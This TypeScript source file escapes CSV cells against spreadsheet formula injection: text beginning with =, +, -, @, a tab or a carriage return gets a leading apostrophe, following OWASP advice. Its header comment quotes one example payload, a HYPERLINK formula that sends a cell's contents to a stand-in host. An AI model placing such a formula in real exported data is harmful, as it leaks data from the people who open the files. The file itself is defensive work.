/**
 * CSV cells a spreadsheet cannot run. Excel, LibreOffice and Google Sheets read a text cell that
 * begins with = + - or @ as a formula, and some skip a leading tab or carriage return first, so a
 * data note such as `=HYPERLINK("http://x.example/?leak="&A1,"click")` would run on the computer
 * of a resident who opens a download. OWASP's advice on CSV injection
 * (https://owasp.org/www-community/attacks/CSV_Injection) is to put a single quote in front of
 * such a cell: every spreadsheet then shows it as text.
 *
 * Only text is changed, decided by the value's type rather than by what the text looks like: a
 * number is written as the number it is, so -2.5 stays -2.5 and loads as a number in any tool,
 * while the text "-2.5" (a note, say) is written '-2.5. Quoting is left to the CSV writer
 * (papaparse), which quotes any cell holding a comma, a double quote or a line break.
 */

/**
 * What readers are told, in the same words on the downloads page and in the data dictionary
 * (datapackage.json): how to get back the text as written.
 */
export const APOSTROPHE_RULE =
  "In the CSV files, a text cell that begins with =, +, -, @, a tab or a carriage return is published with an apostrophe (') in front, so that a spreadsheet shows it as text instead of running it as a formula (one already written with apostrophes before such a character gets one more). To get the text as written, remove the first apostrophe of any text cell that begins with apostrophes followed by one of those characters. Numbers are never changed, and the JSON and Excel files hold the text as written."

/** The first characters that make a spreadsheet read a text cell as a formula. */
export const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'] as const;

/** True when a spreadsheet would read this text, as a cell, as the start of a formula. */
export function readsAsFormula(text: string): boolean {
  return (FORMULA_STARTS as readonly string[]).includes(text.charAt(0));
}

/**
 * True when the cell gets an apostrophe in front. Text that already begins with apostrophes
 * before a formula character ('=1) gets one more too, so that removing one leading apostrophe
 * always gives back the text as written: the rule the data dictionary gives readers.
 */
export function needsApostrophe(text: string): boolean {
  return readsAsFormula(text.replace(/^'+/, ''));
}

/** A value of a CSV row: null is an empty cell. */
export type CsvValue = string | number | boolean | null;

/** The cell's text, before quoting: numbers and booleans as written, text a spreadsheet would run with an apostrophe in front. */
export function csvSafe(value: CsvValue): string {
  if (value === null) return '';
  if (typeof value !== 'string') return String(value);
  return needsApostrophe(value) ? `'${value}` : value;
}
